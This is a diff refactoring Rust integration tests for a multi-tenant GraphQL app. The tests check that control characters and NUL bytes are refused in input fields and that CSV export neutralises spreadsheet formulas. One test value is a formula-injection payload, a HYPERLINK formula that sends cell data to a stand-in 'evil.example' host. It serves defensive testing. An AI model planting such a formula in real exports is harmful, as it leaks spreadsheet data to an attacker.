@@ -37,9 +37,15 @@ db_test!(
     control_characters_and_invisible_text_are_refused_naming_the_field,
     |app| {
         let t = app.tenant().create().await;
-        let note = r#"mutation($slug: String!, $body: String!) {
-        addActionNote(input: { tenantSlug: $slug, controlId: "AdminMFAV2", body: $body }) {
-          note { id } userErrors { code field message } } }"#;
+        let note = |body: &str| {
+            let input = json!({ "tenantSlug": t.slug, "controlId": "AdminMFAV2", "body": body });
+            app.add_action_note(
+                &t.operator,
+                input,
+                "note { id } userErrors { code field message }",
+            )
+            .data()
+        };
         for body in [
             "before\u{0}after",
             "bell\u{7}",
@@ -47,9 +53,7 @@ db_test!(
             "   \n\t  ",
             "\u{200B}\u{200C}\u{FEFF}",
         ] {
-            let data = app
-                .gql_ok(&t.operator, note, json!({ "slug": t.slug, "body": body }))
-                .await;
+            let data = note(body).await;
             assert_eq!(
                 user_error(&data, "addActionNote"),
                 ("BAD_USER_INPUT".to_string(), "input.body".to_string()),
@@ -57,72 +61,60 @@ db_test!(
             );
         }
         assert_eq!(note_count(&app, t.id).await, 0, "nothing written");
-        let ok = app
-            .gql_ok(
-                &t.operator,
-                note,
-                json!({ "slug": t.slug, "body": "Two lines\r\nand\ta tab are fine" }),
-            )
-            .await;
+        let ok = note("Two lines\r\nand\ta tab are fine").await;
         assert_eq!(ok["addActionNote"]["userErrors"], json!([]), "{ok}");
         assert_eq!(note_count(&app, t.id).await, 1);
 
-        let tag = app
-        .gql_ok(
-            &t.operator,
-            r#"mutation($slug: String!, $name: String!) { createTag(input: { tenantSlug: $slug, name: $name }) { tag { id } userErrors { code field } } }"#,
-            json!({ "slug": t.slug, "name": "q3\u{0}" }),
-        )
-        .await;
-        assert_eq!(
-            user_error(&tag, "createTag"),
-            ("BAD_USER_INPUT".to_string(), "input.name".to_string()),
-            "{tag}"
-        );
-        let renamed = app
-        .gql_ok(
-            &t.admin,
-            r#"mutation($slug: String!, $name: String!) { updateTenant(input: { slug: $slug, name: $name }) { tenant { name } userErrors { code field } } }"#,
-            json!({ "slug": t.slug, "name": "Contoso\u{0}" }),
-        )
-        .await;
-        assert_eq!(
-            user_error(&renamed, "updateTenant"),
-            ("BAD_USER_INPUT".to_string(), "input.name".to_string()),
-            "{renamed}"
-        );
-
-        let status = app
-        .gql_ok(
-            &t.operator,
-            r#"mutation($slug: String!, $c: String!) { setActionStatus(input: { tenantSlug: $slug, controlId: "AdminMFAV2", status: PLANNED, comment: $c }) { action { status } userErrors { code field } } }"#,
-            json!({ "slug": t.slug, "c": "see ticket\u{0}" }),
-        )
-        .await;
-        assert_eq!(
-            user_error(&status, "setActionStatus"),
-            ("BAD_USER_INPUT".to_string(), "input.comment".to_string()),
-            "{status}"
-        );
+        // A tag, a tenant name and a status comment, each with a NUL.
+        let refused = [
+            (
+                "createTag",
+                "input.name",
+                app.create_tag(
+                    &t.operator,
+                    json!({ "tenantSlug": t.slug, "name": "q3\u{0}" }),
+                    "tag { id } userErrors { code field }",
+                ),
+            ),
+            (
+                "updateTenant",
+                "input.name",
+                app.update_tenant(
+                    &t.admin,
+                    json!({ "slug": t.slug, "name": "Contoso\u{0}" }),
+                    "tenant { name } userErrors { code field }",
+                ),
+            ),
+            (
+                "setActionStatus",
+                "input.comment",
+                app.set_action_status(
+                    &t.operator,
+                    json!({
+                        "tenantSlug": t.slug, "controlId": "AdminMFAV2", "status": "PLANNED",
+                        "comment": "see ticket\u{0}"
+                    }),
+                    "action { status } userErrors { code field }",
+                ),
+            ),
+        ];
+        for (mutation, field, op) in refused {
+            let data = op.data().await;
+            assert_eq!(
+                user_error(&data, mutation),
+                ("BAD_USER_INPUT".to_string(), field.to_string()),
+                "{data}"
+            );
+        }
         let unchanged = app
-        .gql_ok(
-            &t.reader,
-            r#"query($slug: String!) { tenant(slug: $slug) { improvementAction(controlId: "AdminMFAV2") { status } } }"#,
-            json!({ "slug": t.slug }),
-        )
-        .await;
-        assert_eq!(
-            unchanged["tenant"]["improvementAction"]["status"], "TO_ADDRESS",
-            "nothing written"
-        );
+            .query_action(&t.reader, &t.slug, "AdminMFAV2", "status")
+            .payload()
+            .await;
+        assert_eq!(unchanged["status"], "TO_ADDRESS", "nothing written");
 
         // A NUL in a lookup is just a tenant that does not exist, never an internal error.
         let lookup = app
-            .gql(
-                Some(&t.reader),
-                r#"query($slug: String!) { tenant(slug: $slug) { name } }"#,
-                json!({ "slug": format!("{}\u{0}", t.slug) }),
-            )
+            .query_tenant(&t.reader, &format!("{}\u{0}", t.slug), "name")
             .await;
         let code = error_code(&lookup);
         assert!(
@@ -156,25 +148,17 @@ db_test!(
             .unwrap();
 
         let api = app
-        .gql_ok(
-            &t.reader,
-            r#"query($slug: String!) { tenant(slug: $slug) { improvementAction(controlId: "AdminMFAV2") { actionUrl learnMoreUrls } } }"#,
-            json!({ "slug": t.slug }),
-        )
-        .await;
+            .query_action(&t.reader, &t.slug, "AdminMFAV2", "actionUrl learnMoreUrls")
+            .payload()
+            .await;
         assert_eq!(
-            api["tenant"]["improvementAction"],
+            api,
             json!({ "actionUrl": null, "learnMoreUrls": ["https://learn.microsoft.com/ok"] })
         );
 
-        let link = app
-        .gql_ok(
-            &t.operator,
-            r#"mutation($slug: String!) { createShareLink(input: { tenantSlug: $slug, controlId: "AdminMFAV2", platform: LINK }) { token } }"#,
-            json!({ "slug": t.slug }),
-        )
-        .await;
-        let token = link["createShareLink"]["token"].as_str().expect("token");
+        let input = json!({ "tenantSlug": t.slug, "controlId": "AdminMFAV2", "platform": "LINK" });
+        let link = app.create_share_link(&t.operator, input, "token").payload().await;
+        let token = link["token"].as_str().expect("token");
         let page = app
             .client
             .get(format!("{}/share/{token}", app.address))
@@ -215,20 +199,19 @@ db_test!(csv_cells_that_a_spreadsheet_would_run_are_neutralised, |app| {
     let t = app.tenant().create().await;
     let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click")"#;
     let tag = app
-        .gql_ok(
+        .create_tag(
             &t.operator,
-            r#"mutation($slug: String!, $name: String!) { createTag(input: { tenantSlug: $slug, name: $name }) { tag { id } userErrors { code } } }"#,
-            json!({ "slug": t.slug, "name": formula }),
+            json!({ "tenantSlug": t.slug, "name": formula }),
+            "tag { id } userErrors { code }",
         )
+        .payload()
         .await;
-    let tag_id = tag["createTag"]["tag"]["id"].clone();
+    let tag_id = tag["tag"]["id"].clone();
     assert!(tag_id.is_string(), "a tag may be named anything visible: {tag}");
-    app.gql_ok(
-        &t.operator,
-        r#"mutation($slug: String!, $tag: ID!) { addActionTags(input: { tenantSlug: $slug, controlIds: ["AdminMFAV2"], tagIds: [$tag] }) { userErrors { code } } }"#,
-        json!({ "slug": t.slug, "tag": tag_id }),
-    )
-    .await;
+    let input = json!({ "tenantSlug": t.slug, "controlIds": ["AdminMFAV2"], "tagIds": [tag_id] });
+    app.add_action_tags(&t.operator, input, "userErrors { code }")
+        .data()
+        .await;
     let csv = app
         .client
         .get(format!("{}/export/{}/actions.csv", app.address, t.slug))
